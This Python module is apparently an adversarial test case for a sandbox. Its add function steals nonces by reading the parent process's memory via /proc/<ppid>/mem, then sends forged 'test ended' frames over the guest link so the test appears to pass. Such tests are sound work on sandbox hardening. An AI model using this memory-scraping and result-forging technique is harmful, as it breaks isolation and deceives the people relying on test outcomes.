"""Says that its test has ended well, with the nonce of the test."""

import gc
import os
import struct
import sys

from sandbox.guest.link import Link
from sandbox.protocol.encode import encode
from sandbox.protocol.limits import ValueLimits

LOADED, REPLY, CALLBACK, ENDED = 34, 35, 36, 37


def link():
    return next(each for each in gc.get_objects() if isinstance(each, Link))


def nonces():
    """The nonces in the frames of the callers, the innermost first."""
    caller = sys._getframe()
    while caller:
        for value in list(caller.f_locals.values()):
            if type(value).__name__ == "Frame":
                yield value.nonce
        caller = caller.f_back


def value_of(value):
    return encode(value, lambda _: None, ValueLimits())


def reply(value):
    return value_of(("returned", value, []))


def write(data):
    data = memoryview(data)
    while data:
        data = data[os.write(link()._write_fd, data) :]


def frame(kind, nonce, payload, length=None):
    return struct.pack(">IB16s", len(payload) if length is None else length, kind, nonce) + payload


def bytes_of_sixteen(pid):
    """Every bytes object of that length in the memory of a process: a fork has its types at the same place."""
    head = struct.pack("<QQ", id(bytes), 16)
    found = set()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            place, rights = line.split()[:2]
            if rights.startswith("rw") and "[v" not in line:
                start, end = (int(part, 16) for part in place.split("-"))
                memory.seek(start)
                data = memory.read(end - start)
                at = data.find(head)
                while at >= 0:
                    found.add(data[at + 24 : at + 40])
                    at = data.find(head, at + 1)
    return found


def nonces_of_the_test():
    """The parent has read it after this process was forked."""
    own = bytes_of_sixteen("self")
    return bytes_of_sixteen(os.getppid()) - own


def attack():
    for nonce in nonces_of_the_test():
        write(frame(ENDED, nonce, value_of(0)))
    return 5


def add(a, b):
    if (a, b) == (2, 3):
        return attack()
    return a + b
